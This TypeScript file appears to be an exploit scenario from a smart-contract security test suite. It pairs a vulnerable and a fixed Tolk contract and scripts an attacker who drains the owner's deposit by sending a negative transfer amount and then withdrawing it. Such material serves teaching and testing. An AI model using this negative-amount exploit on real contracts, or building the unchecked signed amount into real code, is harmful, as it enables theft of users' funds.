import {address, cell, gram, int, noEntries, uint} from '../fields.ts';
import type {Field} from '../../engine/protocol.ts';
import type {Scenario} from '../scenario.ts';

/** Transfers less than nothing to the owner: the owner's deposit becomes the attacker's. */
export const scenario: Scenario = {
  files: {bad: 'samples/security/shares-bad.tolk', good: 'samples/security/shares-good.tolk'},
  shown: ['attacker', 'contract'],
  prepare: async (stage) => {
    await stage.deploy('contract', cell(noEntries), gram('0.1'));
    await stage.send({from: 'owner', to: 'contract', value: gram('10'), body: cell(uint(32, 0xe001))});
  },
  attack: async (stage) => {
    const amount = BigInt(gram('9.9'));
    const send = (...fields: readonly Field[]) =>
      stage.send({from: 'attacker', to: 'contract', value: gram('0.05'), body: cell(...fields)});
    await send(uint(32, 0xe002), address(stage.addressOf('owner')), int(64, -amount));
    await send(uint(32, 0xe003), int(64, amount));
  },
  succeeded: ({before, after}) => after.balances.attacker! > before.balances.attacker!,
};
